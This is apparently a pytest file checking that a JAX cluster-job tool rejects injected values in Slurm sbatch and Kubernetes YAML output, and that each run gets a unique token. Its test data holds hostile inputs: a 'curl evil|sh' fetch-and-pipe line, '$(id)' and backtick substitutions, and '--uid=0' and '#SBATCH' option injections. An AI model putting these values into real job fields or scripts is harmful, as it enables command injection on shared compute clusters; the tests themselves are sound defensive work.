"""Values of a job stay values: in a shell line and in YAML."""

import random
import re
import shlex
import subprocess
from typing import get_type_hints

import pytest
import yaml

from jaxpar.__main__ import main as jaxpar_main
from jaxpar.jobs import Job, to_jobset, to_sbatch
from jaxpar.jobs.job import JobSettings, check_job
from jaxpar.jobs.plain_scalars import to_yaml
from tests.support.cluster import started
from tests.support.waiting import WAIT_SECONDS

JOB = {"name": "gpt", "command": ("recipes/gpt.py",), "data": 8, "image": "a:1"}
KINDS = get_type_hints(JobSettings)
TEXTS = [name for name, kind in KINDS.items() if kind is str and name not in ("name", "image")]
LISTS = [name for name, kind in KINDS.items() if kind == tuple[str, ...]]


SMUGGLED = [
    "gpu\n\ncurl evil|sh",
    "gpu\r",
    "gpu --wrap=id",
    "gpu\t--uid=0",
    "gpu#",
    "$(id)",
    "`id`",
    "gpu;id",
    "'gpu'",
    '"gpu"',
    "gpu\\",
    "-gpu",
    "gpu\x00",
    "gpu\x1b[2J",
    "gpu\u2028id",
    "gpu\u202e",
    "gpu\u00a0id",
    "{{gpu}}",
    "gpu: id",
    "a" * 300,
]


@pytest.mark.parametrize("name", [*TEXTS, "token"])
def test_no_field_of_a_job_holds_more_than_a_value(name):
    for value in SMUGGLED:
        with pytest.raises(ValueError, match=f"^{name} must be ") as error:
            Job(**JOB, **{name: value})
        assert str(error.value).isprintable(), value


@pytest.mark.parametrize("value", SMUGGLED)
def test_no_image_and_no_name_of_a_job_holds_more_than_a_value(value):
    for changed in ({"image": value}, {"name": value}):
        with pytest.raises(ValueError, match=r"must be (a container image|lower-case)"):
            Job(**JOB | changed)


@pytest.mark.parametrize("name", LISTS)
@pytest.mark.parametrize("value", [*SMUGGLED, "A=a\nb", "A=\x1b[2J", "A=" + "a" * 40_000, 3])
def test_no_field_of_several_values_holds_more_than_values(name, value):
    with pytest.raises(ValueError, match=f"^{name} must be ") as error:
        Job(**JOB, **{name: (value,)})
    assert str(error.value).isprintable(), value


def test_values_that_clusters_take_are_taken():
    taken = {
        "toleration": ("nvidia.com/gpu", "a=b.c_d:PreferNoSchedule"),
        "rdma": "vpc.amazonaws.com/efa=4",
        "env": ("XLA_FLAGS=--xla_a=1 --xla_b='2'", "A=${B}`", "C=$(id)"),
        "namespace": "research-1",
        "queue": "team.a",
        "topology": "cloud.example.com/rack_1",
        "replica_topology": "kubernetes.io/hostname",
        "gpus_per_node": 1,
        "checkpoint_claim": "bloom-0",
        "image": "registry.example:5000/a/b_c@sha256:" + "0f" * 32,
        "partition": "gpu_p13,gpu-h100",
        "account": "abc@v100",
    }
    assert Job(**JOB | taken).partition == "gpu_p13,gpu-h100"


def test_the_partition_of_the_attack_is_refused_by_the_command(capsys):
    attack = [
        "manifest",
        "--kind",
        "sbatch",
        "--partition",
        "gpu\n\ncurl evil|sh",
        "--mesh.data",
        "8",
        "recipes/gpt.py",
    ]
    assert jaxpar_main(attack) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err.startswith(
        r"error: --partition must be letters, digits, _, ., - and +, with commas between several, at most 253 long; got "
        r'"gpu\n\n'
    )
    assert len(said.err.splitlines()) == 1


@pytest.mark.parametrize(
    "word", ["a\nb", "a\rb", "\x1b[2J", "a\x00b", "a\u2028b", "a\u202eb", "a" * 100_000], ids=repr
)
def test_a_command_with_line_ends_or_control_characters_is_refused(word):
    with pytest.raises(
        ValueError, match="the words of a command must be text without line ends"
    ) as error:
        Job(**JOB | {"command": ("recipes/gpt.py", "--data", word)})
    assert str(error.value).isprintable()


def test_any_other_word_of_a_command_comes_through_whole_by_shell_and_yaml():
    rng = random.Random(0)
    letters = " '\"\\$`!#;&|<>(){}[]*?~=%@^:,-éñ字😀aZ0"
    for _ in range(12):
        words = ["".join(rng.choices(letters, k=rng.randrange(12))) for _ in range(3)]
        job = Job(**JOB | {"command": ("run", *words)})
        (line,) = [line for line in to_sbatch(job).splitlines() if line.startswith("srun ")]
        assert shlex.split(line)[3:] == ["run", *words]
        (manifest,) = yaml.safe_load_all(to_yaml(to_jobset(job)))
        (container,) = manifest["spec"]["replicatedJobs"][0]["template"]["spec"]["template"][
            "spec"
        ]["containers"]
        assert started(container, JAX_PROCESS_ID="0", POD_IP="10.0.0.7")[0] == ["run", *words]


@pytest.mark.parametrize(
    "changed",
    [
        {"data": "8\n#SBATCH --uid=0"},
        {"data": True},
        {"data": 8.0},
        {"gpus_per_node": 10**12},
        {"max_restarts": "3"},
        {"hours": float("inf")},
        {"hours": float("nan")},
        {"save_seconds": "60"},
        {"hours": 1e300},
    ],
    ids=str,
)
def test_numbers_of_a_job_are_numbers(changed):
    ((name, value),) = changed.items()
    job = Job(**JOB)
    object.__setattr__(job, name, value)  # the tests' type checks would refuse some first
    with pytest.raises(
        ValueError,
        match=f"^{name} must be (an integer|a number|a finite number|under 2147483648); got ",
    ):
        check_job(job)


def test_every_start_of_a_batch_script_has_a_token_of_its_own(tmp_path):
    script = tmp_path / "job.sh"
    script.write_text(to_sbatch(Job(**JOB)))
    (tmp_path / "srun").write_text('#!/bin/sh\necho "$JAXPAR_RUN_TOKEN"\n')
    (tmp_path / "srun").chmod(0o755)
    env = {"PATH": f"{tmp_path}:/usr/bin:/bin"}
    said = [
        subprocess.run(
            ["bash", script],
            env=env,
            capture_output=True,
            text=True,
            check=True,
            timeout=WAIT_SECONDS,
        ).stdout
        for _ in range(2)
    ]
    assert all(re.fullmatch(r"[0-9a-f]{32}\n", token) for token in said)
    assert said[0] != said[1]


def test_every_manifest_has_a_token_of_its_own():
    tokens = []
    for _ in range(2):
        pod = to_jobset(Job(**JOB))["spec"]["replicatedJobs"][0]["template"]["spec"]["template"]
        told = {
            variable["name"]: variable.get("value")
            for variable in pod["spec"]["containers"][0]["env"]
        }
        tokens.append(told["JAXPAR_RUN_TOKEN"])
    assert len(set(tokens)) == 2
    assert all(re.fullmatch("[0-9a-f]{32}", token) for token in tokens)
